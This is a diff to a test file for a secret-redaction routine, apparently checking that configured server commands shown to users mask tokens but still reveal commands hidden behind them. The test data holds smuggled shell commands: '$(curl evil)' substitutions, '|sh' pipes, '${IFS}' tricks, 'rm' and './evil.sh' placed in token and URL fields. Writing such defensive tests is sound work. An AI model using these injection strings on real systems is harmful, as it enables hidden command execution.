@@ -89,7 +89,13 @@ SCRIPTS = {
     "API_TOKEN=abcdefgh1; touch OWNED": "API_TOKEN=***; touch OWNED",
     "API_TOKEN=abcdefgh1 touch OWNED": "API_TOKEN=*** touch OWNED",
     "API_TOKEN=abcdefgh1|sh": "API_TOKEN=***|sh",
-    "API_TOKEN=$(curl evil)": "API_TOKEN=***(curl evil)",
+    "API_TOKEN=$(curl evil)": "API_TOKEN=$(curl evil)",
+    "API_TOKEN=abcdefgh1$(curl evil)": "API_TOKEN=***$(curl evil)",
+    "curl http://e/?key=abcdefgh1;touch OWNED": "curl http://e/?key=***;touch OWNED",
+    "curl http://e/?key=abcdefgh1&touch${IFS}OWNED": "curl http://e/?key=***&touch${IFS}OWNED",
+    "curl http://e/?key=abcdefgh1&b=2|sh": "curl http://e/?key=***&b=***|sh",
+    "curl http://e/?key=abcdefgh1$(rm x)": "curl http://e/?key=***$(rm x)",
+    "http://u:abcdefgh1;touch${IFS}x;@e/": "http://***@e/ (*** has ; in it)",
     "TOKEN=abcdefgh1\nrm -r x": "TOKEN=***\nrm -r x",
     "API_TOKEN=token ./evil.sh": "API_TOKEN=*** ./evil.sh",
     "TOKEN='abcdefgh1' KEY=hgfedcba2 && rm": "TOKEN='***' KEY=*** && rm",
@@ -101,9 +107,22 @@ def test_a_command_behind_a_secret_is_shown(folder: Path, script: str) -> None:
     """Nobody agrees to what they cannot see: neither in `discover` nor before a run."""
     assert redact_args(["-c", script], Secrets())[1] == SCRIPTS[script]
     loaded = load_settings(write(folder, {"it": {"command": "sh", "args": ["-c", script]}}))
-    told = parts_text(loaded.parts, loaded)
+    told = parts_text(loaded.parts)
     assert "abcdefgh1" not in told
     assert SCRIPTS[script].rpartition("***")[2] in told
+
+
+def test_a_command_cannot_be_hidden_as_the_secret_of_its_server(folder: Path) -> None:
+    entry = {"command": "sh", "args": ["./evil.sh"], "env": {"API_TOKEN": "./evil.sh"}}
+    loaded = load_settings(write(folder, {"it": entry}))
+    assert parts_text(loaded.parts) == "  mcpServers.it: sh ./evil.sh (is given API_TOKEN)"
+
+
+def test_what_cannot_be_used_yet_is_shown_without_its_keys(folder: Path) -> None:
+    entry = {"url": "https://e.org/mcp?key=abcdefgh1&x=${NOT_SET_YET}"}
+    told = parts_text(load_settings(write(folder, {"it": entry})).parts)
+    assert "https://e.org/mcp?key=***" in told
+    assert "abcdefgh1" not in told
 
 
 def test_a_secret_alone_is_only_hidden() -> None:
